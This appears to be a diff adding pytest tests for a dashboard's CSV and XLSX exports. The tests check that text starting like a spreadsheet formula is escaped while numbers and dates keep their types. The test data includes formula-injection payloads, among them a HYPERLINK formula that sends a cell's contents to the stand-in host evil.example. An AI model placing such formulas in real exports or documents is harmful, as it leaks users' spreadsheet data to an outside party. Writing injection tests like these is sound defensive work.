@@ -1,0 +1,92 @@
+"""The panel's downloads of a table as shown (`ui.export_buttons`: warehouse.exports' CSV and XLSX): text
+that starts like a formula is made inert; numbers and dates stay numbers and dates."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, date, datetime
+
+import pandas as pd
+from openpyxl import load_workbook
+
+from warehouse.exports import inert, to_csv_bytes, to_xlsx_bytes
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+NUMBER = re.compile(r"[-+]?\d[\d.,\u202f ]*")  # a signed number as text: read as a number, never run
+
+
+def _frame() -> pd.DataFrame:
+    """A table as a page shows it: who (name, email, user agent), figures, and when."""
+    n = len(PAYLOADS)
+    return pd.DataFrame(
+        {
+            "name": PAYLOADS,
+            "email": [f"{p}@example.com" for p in PAYLOADS],
+            "user_agent": list(reversed(PAYLOADS)),
+            "balance": [-2.5, 0.0, 10.25, -1.0, 3.0, 4.0],
+            "calls": list(range(-3, n - 3)),
+            "shown": [
+                "-1,234.5",
+                "-1\u202f234,5",
+                "12",
+                "—",
+                "+7",
+                "-0.5",
+            ],  # numbers as the panel writes them
+            "day": [date(2026, 11, d) for d in range(1, n + 1)],
+            "at": pd.to_datetime([datetime(2026, 11, d, 12, tzinfo=UTC) for d in range(1, n + 1)]),
+        }
+    )
+
+
+def test_csv_download_makes_formulas_inert_and_keeps_numbers_as_numbers():
+    rows = list(csv.reader(io.StringIO(to_csv_bytes(_frame()).decode("utf-8"), newline="")))
+    header, body = rows[0], rows[1:]
+    column = {name: index for index, name in enumerate(header)}
+    for name in ("name", "user_agent"):
+        assert sorted(row[column[name]] for row in body) == sorted("'" + p for p in PAYLOADS)
+    assert [row[column["email"]] for row in body] == [f"'{p}@example.com" for p in PAYLOADS]
+    assert [row[column["balance"]] for row in body] == ["-2.5", "0.0", "10.25", "-1.0", "3.0", "4.0"]
+    assert [row[column["calls"]] for row in body] == ["-3", "-2", "-1", "0", "1", "2"]
+    assert [row[column["shown"]] for row in body] == ["-1,234.5", "-1\u202f234,5", "12", "—", "+7", "-0.5"]
+    for row in body:
+        for name in ("name", "email", "user_agent"):
+            assert not row[column[name]].startswith(FORMULA_STARTS), row
+
+
+def test_xlsx_download_holds_no_formula_and_typed_numbers_and_dates():
+    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(_frame(), "people"))).active
+    rows = [list(row) for row in sheet.iter_rows()]
+    column = {cell.value: index for index, cell in enumerate(rows[0])}
+    body = rows[1:]
+    for cell in (cell for row in rows for cell in row):
+        assert cell.data_type != "f", cell.value
+        if cell.data_type == "s":
+            assert not cell.value.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell.value), repr(cell.value)
+    for name in ("name", "user_agent"):  # (XML reads a CR back as a LF)
+        assert sorted(row[column[name]].value for row in body) == sorted(
+            "'" + p.replace("\r", "\n") for p in PAYLOADS
+        )
+    balances = [row[column["balance"]] for row in body]
+    assert [c.data_type for c in balances] == ["n"] * len(body)  # Excel sums them
+    assert sum(c.value for c in balances) == 13.75
+    assert [row[column["calls"]].value for row in body] == [-3, -2, -1, 0, 1, 2]
+    for name in ("day", "at"):
+        assert all(row[column[name]].is_date for row in body), name  # dates sort as dates
+    assert body[0][column["at"]].value == datetime(2026, 11, 1, 12)  # UTC (XLSX has no time zones)
+
+
+def test_the_rule_itself():
+    assert [inert(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
+    assert [inert(v) for v in ("\uff1dcmd", "\nx", "\x00=x", "plain", "", "o'brien", "a=b")] == [
+        "'\uff1dcmd", "'\nx", "'\x00=x", "plain", "", "o'brien", "a=b",
+    ]  # fmt: skip
+    assert [inert(v) for v in (-2.5, -3, "-2", "-1,234.5", "-1 234,5", "+7", None, date(2026, 1, 1))] == [
+        -2.5, -3, "-2", "-1,234.5", "-1 234,5", "+7", None, date(2026, 1, 1),
+    ]  # fmt: skip
+    assert [inert(v) for v in ("-2+3", "-1e3", "+1+1", "-", "-2 -3")] == [
+        "'-2+3", "'-1e3", "'+1+1", "'-", "'-2 -3",
+    ]  # fmt: skip
